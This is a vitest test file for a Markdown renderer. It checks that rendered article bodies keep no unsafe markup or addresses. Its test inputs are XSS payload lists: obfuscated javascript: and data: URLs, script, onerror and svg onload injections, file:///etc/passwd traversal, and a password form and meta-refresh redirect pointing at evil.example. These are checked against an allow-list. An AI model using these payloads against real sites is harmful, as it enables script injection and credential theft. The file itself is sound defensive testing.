import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5'
import { describe, expect, it } from 'vitest'
import type { OpenHtml, Placeholder, RenderedArticle } from '../../../src/model.ts'
import { composeBody } from '../../../src/render/compose/compose-body.ts'
import { BODY_SITE, renderedFrom, renderMarkdown } from '../../support/render-markdown.ts'

type Element = DefaultTreeAdapterTypes.Element

const ELEMENTS =
  /^(?:a|blockquote|br|code|del|div|em|figcaption|figure|h[1-6]|hr|img|li|ol|p|picture|pre|section|source|span|strong|sup|table|tbody|td|th|thead|tr|ul)$/
const ATTRIBUTES =
  /^(?:alt|aria-label|aria-labelledby|class|decoding|height|href|hreflang|id|loading|rel|role|scope|sizes|src|srcset|start|type|title|width)$/
const HREF = /^(?:https?:\/\/|mailto:|tel:|#(?:b\d+|ref_\d+(?:_\d+)?)$|\/en\/|\/media\/)/
const ID = /^(?:b\d+|ref_\d+(?:_\d+)?|notes_)$/

const elementsIn = (node: DefaultTreeAdapterTypes.Node): Element[] =>
  'childNodes' in node
    ? node.childNodes.flatMap((child) => ('tagName' in child ? [child, ...elementsIn(child)] : elementsIn(child)))
    : []

/** What a browser would make of the HTML and should not: elements, attributes and addresses that a body must not have. */
function dangersIn(html: string): string[] {
  return elementsIn(parseFragment(html)).flatMap(({ tagName, attrs }) => [
    ...(ELEMENTS.test(tagName) ? [] : [`<${tagName}>`]),
    ...attrs
      .filter(({ name, value }) => {
        if (name === 'href') return !HREF.test(value)
        if (name === 'src') return value !== '/media/photo.jpg'
        if (name === 'id') return !ID.test(value)
        return !ATTRIBUTES.test(name)
      })
      .map(({ name, value }) => `${tagName} ${name}=${value}`),
  ])
}

const SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java&#115;cript:alert(1)',
  'javascript&colon;alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  '<&#32;javascript:alert(1)>',
  '&#8203;javascript:alert(1)',
  '&#xFEFF;javascript:alert(1)',
  '<java\tscript:alert(1)>',
  'javascript\\:alert(1)',
  'javascript://example.org/%0Aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2Zz4=',
  'file:///etc/passwd',
  'blob:https://example.org/1',
  'view-source:https://example.org',
  'constructor:1',
  '//evil.example',
  '/\\evil.example',
  '\\\\\\\\evil.example',
  '/&Tab;/evil.example',
  'https://user:secret@evil.example',
  'https:evil.example@x/',
  'http://%zz',
  '../../../etc/passwd',
  '../town-clock/index.en.md/../../x',
  '#"><script>alert(1)</script>',
  '?javascript:alert(1)',
]

const FORMS = [
  ['a link', (url: string) => `[a](${url})`],
  ['a link with a title', (url: string) => `[a](${url} "b\\" onmouseover=alert(1) x=\\"")`],
  ['a label', (url: string) => `[a][b] [b][] [b]\n\n[b]: ${url}`],
  ['an autolink', (url: string) => `<${url.replace(/[<>]/g, '')}>`],
  ['a picture', (url: string) => `![a](${url})`],
  ['a picture with a label', (url: string) => `x ![a][b]\n\n[b]: ${url} "c"`],
  ['a link around a picture', (url: string) => `[![a](${url})](${url})`],
  ['a note', (url: string) => `a[^1]\n\n[^1]: [b](${url})`],
  ['a table', (url: string) => `| [a](${url}) |\n|---|\n| ![a](${url}) |`],
  ['bare words', (url: string) => `${url} www.${url} ${url}@example.org`],
] as const

const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)" target=_blank>x</a>',
  '<a id=main name=main>x</a>',
  '<form action="https://evil.example"><input name=password></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href=//evil.example>',
  '<style>*{background:url(//evil.example)}</style>',
  '<div style="position:fixed;inset:0">x</div>',
  '<p class=body id=main data-pagefind-body>x</p>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- </p><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?>',
  '<!DOCTYPE html>',
  '</div></main></body></html>',
  '<plaintext>',
  '<textarea><script>alert(1)</script>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<x-own onclick=alert(1)>x</x-own>',
  '<constructor>',
]

const PLACES = [
  ['a block', (html: string) => html],
  ['a sentence', (html: string) => `Una ${html} frase.`],
  ['a heading', (html: string) => `## Un ${html} título`],
  ['an item', (html: string) => `- ${html}\n- b ${html}`],
  ['a quotation', (html: string) => `> ${html}\n> b`],
  ['a table', (html: string) => `| a ${html.replaceAll('|', '')} |\n|---|\n| ${html.replaceAll('|', '')} |`],
  ['a note', (html: string) => `a[^1]\n\n[^1]: b ${html}`],
  ['words of a link', (html: string) => `[${html}](https://example.org/)`],
  ['what a picture shows', (html: string) => `![${html}](photo.jpg)`],
  ['a caption', (html: string) => `![a](photo.jpg '${html.replaceAll("'", '')}')`],
  ['code', (html: string) => `\`${html}\`\n\n\`\`\`${html.replaceAll('`', '')}\n${html}\n\`\`\``],
] as const

describe('a body in a browser', () => {
  it.each(FORMS)('follows no unsafe address in %s', (_what, form) => {
    for (const url of SCHEMES) expect([url, dangersIn(renderMarkdown(form(url)))]).toEqual([url, []])
  })

  it.each(PLACES)('shows HTML in %s as text', (_what, place) => {
    for (const html of MARKUP) expect([html, dangersIn(renderMarkdown(place(html)))]).toEqual([html, []])
  })

  it('loses nothing of the HTML that it shows', () => {
    const html = renderMarkdown('<div class="nota">\nUna nota.\n</div>\n\nUna <b>palabra</b>. <!-- fin -->')
    expect(html).toBe(
      '<p>&lt;div class="nota">\nUna nota.\n&lt;/div></p>\n' +
        '<p id="b0">Una &lt;b>palabra&lt;/b>. &lt;!-- fin --></p>',
    )
  })

  it('gives no id that the text chooses', () => {
    const html = renderMarkdown('## main\n\n## constructor\n\n[a](#main)\n\n[^main]: x\n\ny[^main]')
    expect([...html.matchAll(/ id="([^"]*)"/g)].map(([, id]) => id)).toEqual([
      'b0',
      'b1',
      'b2',
      'b3',
      'ref_1',
      'notes_',
      'b4',
    ])
  })
})

/** Texts that would be filled in if placeholders were marks in a text, or their JSON. */
const LOOKALIKES = [
  '\0',
  'a\0b\0',
  '&#0;',
  '\ue000\uf8ff',
  '&#xE000;',
  '\ufdd0\uffff\ufffe',
  '{"kind":"back"}',
  '[{"kind":"mark","note":1}]',
  '{"kind":"picture","name":"photo.jpg","alt":"x"}',
  '{"kind":"link","to":{"kind":"file","name":"photo.jpg"},"attributes":" onclick=\\"alert(1)\\"","html":[]}',
  '\\u0000',
  '$& $1',
  '{{ page }}',
  '__proto__',
]

const placeholdersIn = (html: OpenHtml): Placeholder['kind'][] =>
  html.flatMap((part) =>
    typeof part !== 'object' ? [] : [part.kind, ...(part.kind === 'link' ? placeholdersIn(part.html) : [])],
  )
const openIn = ({ editions }: RenderedArticle) =>
  editions.es?.blocks.map(({ kind, html, figures }) => [kind, placeholdersIn(html), figures?.length])

describe('a body that is open', () => {
  it.each(PLACES)('is filled in nowhere that a text in %s chooses', (_what, place) => {
    for (const typed of LOOKALIKES) {
      const rendered = renderedFrom(place(typed))
      expect([typed, openIn(rendered)]).toEqual([typed, openIn(renderedFrom(place('x')))])
      const html = composeBody(JSON.parse(JSON.stringify(rendered)), 'es', BODY_SITE, undefined)
      expect([typed, dangersIn(html), html.includes('\0')]).toEqual([typed, [], false])
    }
  })

  it('is filled in with text, wherever that stands', () => {
    const evil = '"\'`><script>alert(1)</script>'
    const rendered = renderedFrom(
      `# a\n\n![${evil}](p.jpg "b")\n\nc ![${evil}](p.jpg) [d](../e/index.en.md) [f](p.jpg) [g](#a)[^h]\n\n[^h]: i`,
    )
    const beads = rendered.beads.map((bead) => ({ ...bead, ids: [evil, `${evil}2`] }))
    const html = composeBody(
      { ...rendered, beads },
      'es',
      {
        hrefOfEdition: () => evil,
        hrefOfPicture: () => evil,
        picture: () => ({ src: evil, width: 1, height: 1, srcset: evil, avif: evil }),
      },
      { language: 'en', page: evil, facing: evil },
    )
    const elements = elementsIn(parseFragment(html))
    expect(elements.filter(({ tagName }) => !ELEMENTS.test(tagName))).toEqual([])
    const chosen = elements.flatMap(({ attrs }) => attrs.filter(({ value }) => value.includes('script')))
    expect(chosen.map(({ value }) => value.replaceAll(evil, '…')).filter((value) => /script/.test(value))).toEqual([])
    expect(new Set(chosen.map(({ name }) => name))).toEqual(new Set(['id', 'src', 'srcset', 'href', 'alt']))
  })
})
